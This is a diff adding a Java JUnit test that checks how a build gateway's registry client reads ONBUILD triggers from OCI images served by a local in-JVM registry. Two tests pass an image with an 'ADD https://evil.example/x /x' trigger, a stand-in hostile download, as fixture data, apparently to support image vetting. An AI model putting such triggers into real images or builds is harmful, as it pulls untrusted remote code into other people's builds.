@@ -1,0 +1,122 @@
+package io.buildgateway.hostpool;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import com.sun.net.httpserver.HttpExchange;
+import com.sun.net.httpserver.HttpServer;
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.net.InetSocketAddress;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.ConcurrentHashMap;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.springframework.util.unit.DataSize;
+import tools.jackson.databind.json.JsonMapper;
+
+/** ImageRegistry#onBuildTriggers against a small OCI distribution registry in this JVM (no authentication). */
+class ImageRegistryTriggersTest {
+
+    private HttpServer server;
+    private String address;
+    /** path below /v2/ to content type and body */
+    private final Map<String, Map.Entry<String, byte[]>> content = new ConcurrentHashMap<>();
+
+    @BeforeEach
+    void start() throws IOException {
+        server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
+        address = "127.0.0.1:" + server.getAddress().getPort();
+        server.createContext("/v2/", this::v2);
+        server.start();
+    }
+
+    @AfterEach
+    void stop() {
+        server.stop(0);
+    }
+
+    private void v2(HttpExchange ex) throws IOException {
+        Map.Entry<String, byte[]> c = content.get(ex.getRequestURI().getPath().substring("/v2/".length()));
+        if (c == null) {
+            ex.sendResponseHeaders(404, -1);
+        } else {
+            ex.getResponseHeaders().add("Content-Type", c.getKey());
+            ex.sendResponseHeaders(200, c.getValue().length);
+            ex.getResponseBody().write(c.getValue());
+        }
+        ex.close();
+    }
+
+    private ImageRegistry client() {
+        return new ImageRegistry(new HostPoolProperties(List.of(), "1.41", Duration.ofSeconds(15),
+                new HostPoolProperties.Registry(address, null, null, null),
+                new HostPoolProperties.Limits(DataSize.ofGigabytes(1), "", 0, Duration.ofMinutes(1))),
+                JsonMapper.builder().build());
+    }
+
+    /** Stores an image (config with these triggers, manifest) under repo:tag; returns the manifest digest. */
+    private String image(String repo, String tag, String onBuild) {
+        byte[] config = ("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Env\":[\"PATH=/bin\"]"
+                + (onBuild == null ? "" : ",\"OnBuild\":" + onBuild) + "}}").getBytes(StandardCharsets.UTF_8);
+        String configDigest = ImageRegistry.sha256(config);
+        content.put(repo + "/blobs/" + configDigest, Map.entry("application/octet-stream", config));
+        byte[] manifest = ("{\"schemaVersion\":2,\"mediaType\":\"application/vnd.oci.image.manifest.v1+json\","
+                + "\"config\":{\"mediaType\":\"application/vnd.oci.image.config.v1+json\",\"digest\":\""
+                + configDigest + "\",\"size\":" + config.length + "},\"layers\":[]}").getBytes(StandardCharsets.UTF_8);
+        String digest = ImageRegistry.sha256(manifest);
+        content.put(repo + "/manifests/" + tag, Map.entry("application/vnd.oci.image.manifest.v1+json", manifest));
+        content.put(repo + "/manifests/" + digest, Map.entry("application/vnd.oci.image.manifest.v1+json", manifest));
+        return digest;
+    }
+
+    @Test
+    void readsTheTriggersOfAnImageByTagOrDigest() {
+        String digest = image("base/busybox", "1", "[\"ADD https://evil.example/x /x\",\"RUN id\"]");
+        image("base/plain", "latest", null);
+
+        assertThat(client().onBuildTriggers(address + "/base/busybox:1"))
+                .containsExactly("ADD https://evil.example/x /x", "RUN id");
+        assertThat(client().onBuildTriggers(address + "/base/busybox:1@" + digest))
+                .containsExactly("ADD https://evil.example/x /x", "RUN id");
+        assertThat(client().onBuildTriggers(address + "/base/plain")).isEmpty();
+    }
+
+    @Test
+    void readsEveryPlatformOfAnIndex() {
+        String amd = image("base/multi", "amd", "[\"RUN a\"]");
+        String arm = image("base/multi", "arm", "[\"RUN b\",\"RUN a\"]");
+        byte[] index = ("{\"schemaVersion\":2,\"mediaType\":\"application/vnd.oci.image.index.v1+json\","
+                + "\"manifests\":[{\"digest\":\"" + amd + "\",\"platform\":{\"os\":\"linux\",\"architecture\":"
+                + "\"amd64\"}},{\"digest\":\"" + arm + "\",\"platform\":{\"os\":\"linux\",\"architecture\":"
+                + "\"arm64\"}}]}").getBytes(StandardCharsets.UTF_8);
+        content.put("base/multi/manifests/2", Map.entry("application/vnd.oci.image.index.v1+json", index));
+
+        assertThat(client().onBuildTriggers(address + "/base/multi:2")).containsExactly("RUN a", "RUN b");
+    }
+
+    @Test
+    void failsClosedOnAnythingItCannotRead() {
+        image("base/odd", "1", "\"RUN a\"");
+        assertThatThrownBy(() -> client().onBuildTriggers(address + "/base/absent:1"))
+                .isInstanceOf(UncheckedIOException.class).hasMessageContaining("no image");
+        assertThatThrownBy(() -> client().onBuildTriggers("docker.io/library/busybox:1"))
+                .isInstanceOf(UncheckedIOException.class).hasMessageContaining("not an image in the gateway's registry");
+        assertThatThrownBy(() -> client().onBuildTriggers(address + "/base/odd:1"))
+                .isInstanceOf(UncheckedIOException.class).hasMessageContaining("not a list");
+        assertThatThrownBy(() -> client().onBuildTriggers(address + "/base/busybox:1@sha256:" + "0".repeat(64)))
+                .isInstanceOf(UncheckedIOException.class);
+        String digest = image("base/busybox", "1", "[]");
+        content.put("base/busybox/manifests/" + digest, Map.entry("application/vnd.oci.image.manifest.v1+json",
+                "{\"schemaVersion\":2,\"config\":{}}".getBytes(StandardCharsets.UTF_8)));
+        assertThatThrownBy(() -> client().onBuildTriggers(address + "/base/busybox@" + digest))
+                .isInstanceOf(UncheckedIOException.class).hasMessageContaining("not " + digest);
+        server.stop(0);
+        assertThatThrownBy(() -> client().onBuildTriggers(address + "/base/busybox:1"))
+                .isInstanceOf(UncheckedIOException.class);
+    }
+}
